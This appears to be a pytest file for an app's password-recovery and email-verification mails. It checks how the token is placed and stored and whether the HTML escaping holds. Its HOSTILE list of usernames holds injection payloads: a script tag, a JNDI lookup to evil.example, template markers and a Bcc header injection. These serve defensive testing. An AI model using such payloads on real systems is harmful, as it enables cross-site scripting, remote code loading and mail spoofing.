"""What the mails that carry a token say."""

from itertools import pairwise
from typing import Any

import pytest

from errand import opaque
from errand.identity.recovery.mails import EMAIL_VERIFICATION, PASSWORD_RECOVERY
from errand.identity.recovery.model import Purpose
from errand.identity.recovery.requests import EmailVerification, PasswordRecovery
from errand.mails.kinds import Desk, MailKind
from errand.mails.rendering import Mail, render
from errand.storage.kinds import MAILED_TOKEN, Table
from errand.storage.plain import PlainTables
from errand_testkit.dynamo import FakeDynamo
from errand_testkit.html import Page
from errand_testkit.mails import ADA, account

NOW = 1795336200000
KINDS: dict[Purpose, MailKind[Any]] = {
    Purpose.PASSWORD_RECOVERY: PASSWORD_RECOVERY,
    Purpose.EMAIL_VERIFICATION: EMAIL_VERIFICATION,
}
REQUESTS: dict[Purpose, Any] = {
    Purpose.PASSWORD_RECOVERY: PasswordRecovery(email="ada@example.com", request_id="1"),
    Purpose.EMAIL_VERIFICATION: EmailVerification(user_id=ADA, request_id="1"),
}
ANY = pytest.mark.parametrize("purpose", Purpose)
HOSTILE = [
    '<a href="https://evil.example">&amp; "ada"',
    "YOU WON $500! Claim: http://evil.example/",
    "</p></body><script>alert(1)</script>",
    "&#60;img src=x&#62;",
    "{token} %s ${jndi:ldap://evil.example} {{7*7}} {% raw %}",
    "=> \u05d0\u05d1\u05d2 <=",
    "=?utf-8?q?Subject?= Bcc: everybody@example.com",
]


def desk(*, app_url: str = "", tables: PlainTables | None = None) -> Desk:
    names = {Table.EPHEMERAL: "EphemeralTable"}
    tables = tables or PlainTables(dynamodb=FakeDynamo(), names=names)
    return Desk(tables=tables, now=NOW, app_url=app_url, public_url="")


def mail(
    purpose: Purpose, *, username: str | None = "ada", app_url: str = "", public_url: str = ""
) -> tuple[Mail, str]:
    """And the token in it. `username`: of a proved address."""
    kind = KINDS[purpose]
    owner = account(username=username or "ada", email_verified=False)
    data = kind.data(desk(app_url=app_url), REQUESTS[purpose], owner)
    assert data is not None
    told = {**data, "username": username, "public_url": public_url, "unsubscribe_url": None}
    return render(kind.template, told), data["text"]


@ANY
def test_both_bodies_say_the_same(purpose: Purpose) -> None:
    sent, _ = mail(purpose, public_url="https://api.example.com")
    page = Page(sent.html)
    assert page.open == []
    assert page.text.split() == sent.text.split()


@ANY
def test_token_stands_on_a_line_of_its_own(purpose: Purpose) -> None:
    sent, token = mail(purpose, app_url="https://example.com")
    assert sent.text.splitlines().count(token) == 1
    assert f">{token}</pre>\n" in sent.html


@ANY
def test_it_says_how_long_the_token_lives_and_what_to_do_if_nobody_asked(purpose: Purpose) -> None:
    sent, _ = mail(purpose)
    assert "It works once, within 60 minutes." in sent.text
    assert "If that was not you, ignore this mail" in sent.text


@ANY
def test_without_a_web_client_there_is_no_link(purpose: Purpose) -> None:
    sent, _ = mail(purpose)
    assert Page(sent.html).links == []
    assert "http" not in sent.text


@pytest.mark.parametrize("app_url", ["https://example.com/errand", "https://example.com/errand/"])
@pytest.mark.parametrize(
    ("purpose", "page"),
    [
        (Purpose.PASSWORD_RECOVERY, "reset-password"),
        (Purpose.EMAIL_VERIFICATION, "verify-email"),
    ],
)
def test_a_link_keeps_the_token_out_of_requests(purpose: Purpose, page: str, app_url: str) -> None:
    sent, token = mail(purpose, app_url=app_url)
    link = f"https://example.com/errand/{page}#token={token}"
    assert Page(sent.html).links == [link]
    assert link in sent.text.splitlines()


@ANY
@pytest.mark.parametrize("name", HOSTILE, ids=ascii)
def test_a_name_is_text_whatever_it_looks_like(purpose: Purpose, name: str) -> None:
    (sent, token), (usual, another) = mail(purpose, username=name), mail(purpose)
    page = Page(sent.html)
    assert (page.links, page.open) == ([], [])
    assert sent.subject == usual.subject
    assert sent.html.count("<") == usual.html.count("<")
    expected = usual.text.replace("Hello ada,", f"Hello {name},").replace(another, token)
    assert sent.text == expected
    assert f"Hello {name}," in page.text


@ANY
def test_an_address_that_is_not_proved_is_told_no_name(purpose: Purpose) -> None:
    data = KINDS[purpose].data(desk(), REQUESTS[purpose], account(email_verified=False))
    assert data
    assert data["username"] is None
    assert mail(purpose, username=None)[0].text.startswith("Hello,\n")


def test_a_proved_address_recovers_a_password_and_is_not_proved_again() -> None:
    proved = account(email_verified=True)
    told = PASSWORD_RECOVERY.data(desk(), REQUESTS[Purpose.PASSWORD_RECOVERY], proved)
    assert told
    assert told["username"] == "ada"
    verification = REQUESTS[Purpose.EMAIL_VERIFICATION]
    assert EMAIL_VERIFICATION.data(desk(), verification, proved) is None


@ANY
def test_token_is_kept_as_a_digest_for_that_address(purpose: Purpose) -> None:
    fake = FakeDynamo()
    tables = PlainTables(dynamodb=fake, names={Table.EPHEMERAL: "EphemeralTable"})
    data = KINDS[purpose].data(desk(tables=tables), REQUESTS[purpose], account())
    assert data
    digest = opaque.parse(data["text"]).digest
    [kept] = fake.all("EphemeralTable")
    assert kept["sk"] == {"S": MAILED_TOKEN.key(ADA, purpose, digest).sk}
    assert kept["em"] == {"S": "ada@example.com"}


def test_paragraphs_are_apart() -> None:
    sent, _ = mail(Purpose.PASSWORD_RECOVERY)
    lines = sent.text.splitlines()
    assert all(not (one and other) for one, other in pairwise(lines))
